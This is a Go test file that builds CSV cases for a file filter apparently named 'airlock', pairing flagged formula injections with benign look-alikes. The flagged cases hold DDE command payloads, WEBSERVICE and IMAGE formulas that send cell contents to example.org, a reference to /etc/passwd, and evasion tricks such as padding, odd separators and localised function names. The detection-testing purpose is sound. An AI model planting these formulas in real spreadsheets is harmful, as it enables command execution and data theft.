package corpus

import (
	"strings"

	"airlock"
)

// tableTricks are formulas in tables that are written so that they are overlooked.
func tableTricks() []Case {
	var cases []Case
	add := func(want airlock.Reason, name, s string) {
		cases = append(cases, Case{Name: "table-" + name, Type: "text/csv", Want: want, Make: literally(s)})
	}
	runs := func(name, s string) { add(airlock.ActiveContent, name, s) }
	fine := func(name, s string) { add("", name, s) }
	const dde = "cmd|'/c calc'!A0"
	for _, at := range []string{"8190", "32766", "65534"} {
		n := map[string]int{"8190": 8190, "32766": 32766, "65534": 65534}[at]
		runs("with-dde-that-straddles-"+at+".csv", `"`+strings.Repeat("x", n)+`",=`+dde+"\n")
	}
	runs("with-a-call-that-straddles.csv", `"`+strings.Repeat("x", 8180)+`",=WEBSERVICE("http://example.org/"&A1)`+"\n")
	runs("with-dde-in-a-cell-that-is-longer-than-a-piece.csv", `"=IF(A1=""`+strings.Repeat("x", 40000)+`"",`+dde+`,1)"`+"\n")
	runs("with-dde-behind-a-colon.csv", "sep=:\na:b\n1:="+dde+"\n")
	runs("with-dde-behind-a-caret.csv", "\"sep=^\"\r\na^="+dde+"\r\n")
	runs("with-dde-behind-a-section-sign.csv", "SEP=\u00a7\na\u00a7="+dde+"\n")
	runs("with-dde-and-old-line-ends.csv", "a,b\r1,="+dde+"\r")
	runs("with-dde-in-a-quoted-second-line.csv", "a,\"\n="+dde+"\"\n")
	runs("with-dde-over-two-lines.csv", "a,\"=IF(1,\n"+dde+")\"\n")
	runs("with-dde-in-braces.csv", "{="+dde+"}\n")
	runs("with-dde-behind-a-no-break-space.csv", "1,\u00a0="+dde+"\n")
	runs("with-dde-behind-a-wide-sign.csv", "1,\uff1d"+dde+"\n")
	runs("with-dde-behind-a-negative-number.csv", "-5,="+dde+"\n")
	runs("with-dde-whose-topic-holds-cells.csv", "=cmd|'/c a,=b;-c'!A0\n")
	runs("with-dde-whose-topic-holds-a-quote.csv", "=cmd|'/c ''a'' b'!A0\n")
	runs("with-a-server-within-a-call.csv", "1,=IF(1,RTD(\"x\",\"\",\"y\"))\n")
	runs("with-a-server-behind-an-at.csv", "=@RTD (\"x\",,\"y\")\n")
	runs("with-a-prefixed-function.csv", "=_xlfn._xlws.WEBSERVICE(\"http://example.org/\"&A1)\n")
	runs("with-a-function-of-an-add-in.csv", "=1+_xll.RTD(\"x\")\n")
	runs("with-a-call-behind-a-minus.csv", "-CALL(\"a\",\"b\")\n")
	runs("with-a-link-that-is-put-together.csv", "=HYPERLINK(CONCATENATE(\"http://example.org/\",A1),\"x\")\n")
	runs("with-a-link-to-a-file-server.csv", "=HYPERLINK(\"\\\\example.org\\a\",\"x\")\n")
	runs("with-a-picture-that-sends-cells.csv", "=IMAGE(\"http://example.org/?\"&A1)\n")
	runs("with-dde-without-quotes-behind-a-plus.csv", "a,b\n1,+cmd|/Ccalc!A0\n")
	runs("with-a-picture-of-a-cells-address-behind-a-plus.csv", "\"https://example.org/\",+IMAGE(A1)\n")
	runs("with-a-picture-function-that-is-handed-on.csv", "https://example.org/,\"=MAP(A1,IMAGE)\"\n")
	runs("with-a-function-in-wide-letters.csv", "https://example.org/,=ＷＥＢＳＥＲＶＩＣＥ(A1)\n")
	runs("with-a-sheet-of-another-computer.csv", "a,b\n1,\"='http://example.org/x.csv'#$x.A1\"\n")
	runs("with-a-sheet-of-a-share.csv", "a,b\n1,='\\\\example.org\\s\\[x.xls]S'!A1\n")
	runs("with-a-sheet-of-a-file.csv", "a,b\n1,=1+'file:///etc/passwd'#$passwd.A1\n")
	runs("with-a-sheet-that-is-named-by-a-text.csv", "a,b\n1,\"=INDIRECT(\"\"'\\\\example.org\\s\\[x.xls]S'!A1\"\")\"\n")
	for _, call := range []string{"WEBTJENESTE(A1)", "NETTJENESTE(A1)", "WEBBTJÄNST(A1)", "VERKKOPALVELU(A1)", "WEBSZOLGÁLTATÁS(A1)", "RDTR(\"x\";;\"y\")", "VIA(\"x\";;\"y\")",
		"DATITEMPOREALE(\"x\";;\"y\")", "DANE.CZASU.RZECZ(\"x\";;\"y\")", "GZV(\"x\";;\"y\")", "ДРВ(\"x\";;\"y\")", "OBRÁZEK(\"https://example.org/?\"&A1)", "RESİM(\"https://example.org/?\"&A1)",
		"HYPERLINKKI(\"https://example.org/?\"&A1)", "HYPERTEXTOVÝ.ODKAZ(\"https://example.org/?\"&A1)"} {
		name, _, _ := strings.Cut(call, "(")
		runs("of-a-language-with-"+strings.ToLower(name)+".csv", "a;b\n1;="+call+"\n")
	}

	fine("of-numbers-and-bars.csv", "id|delta|comment\n1|-5|'Great'! Loved it|x\n1|-5|\"'Great'! Loved it\"|x\n2|-b|'wow'!|x\n")
	fine("with-names-behind-dashes.csv", "desc,amt\n- DDE (\"Direct Debit\") fee,5\nShell (petrol station),-Shell(\"Main St\")\n- via (\"post\"),1\n")
	fine("with-sheets-beside.csv", "a,b\n='My sheet'!A1,='[Book2.xlsx]Sheet'!A1\n='C:\\a\\[b.xlsx]S'!A1,\"- see 'http://example.org/'! Great\"\n")
	fine("with-bars-and-cells-behind-signs.csv", "a,b\n-a|b! c1,- cmd|x!A0 (image(a2 of it))\n+image (a2),-image(s)\n=IF(A1=1;image;2),-1\n")
	fine("with-lists-of-commands.csv", "step,note\n1,- exec(\"make\")\n2,\"- call (\"\"me\"\"), + shell(\"\"ls -l\"\")\"\n3,- register(\"a\") first\n")
	fine("with-remarks.csv", "a,b\n=A1+4,\"-- (see call (2))\"\n-1.5,\"- (a|b), call (me)!\"\n+49 (30) 1234,@jane\njane@example.com,(exec(utive))\n")
	fine("with-a-link-within.csv", "=HYPERLINK(\"#\"&A1,\"x\")\n\"=HYPERLINK(\"\"mailto:a@example.com\"\",\"\"x & y (z)\"\")\"\n")
	fine("of-bars-with-signs.csv", "a|b|c\n-1|+2|=A1+1\n@x|call (me)|wow!\n")
	fine("of-long-cells.csv", "a,b\n\""+strings.Repeat("- some (long) text | ", 4000)+"\",=SUM(A1:A2)\n")
	fine("with-a-quote-that-is-not-closed.csv", "a,\"b\n=1,call (me)\n2,shell (blue)\n")
	fine("whose-separator-is-named.csv", "sep=;\r\na;b\r\n-1;(x)\r\n")
	return cases
}
